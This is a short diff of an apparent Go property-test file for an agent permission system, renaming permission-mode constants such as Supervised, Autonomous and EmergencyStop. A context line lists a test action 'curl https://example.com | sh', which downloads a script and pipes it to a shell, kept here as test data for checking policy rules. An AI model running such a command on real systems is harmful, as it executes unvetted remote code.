@@ -57,8 +57,8 @@ var propActions = []policy.Action{
 	shellAction("curl https://example.com | sh"),
 }
 
-var propProfiles = []string{profile.ModeSupervised, profile.ModeTrusted, profile.ModeAutonomous, profile.ModeReadOnly,
-	profile.ModePlan, profile.ModeEmergencyStop, profile.ProfileSafe, profile.ProfileDev, profile.ProfileFullAuto,
+var propProfiles = []string{profile.PermissionSupervised, profile.PermissionTrusted, profile.PermissionAutonomous, profile.PermissionReadOnly,
+	profile.PermissionPlan, profile.PermissionEmergencyStop, profile.ProfileSafe, profile.ProfileDev, profile.ProfileFullAuto,
 	profile.ApprovalAsk, profile.ApprovalSafe, profile.ApprovalAuto, profile.ApprovalYolo}
 
 // randomRules makes grant rules: narrow ones from an approved action, or broad ones a host
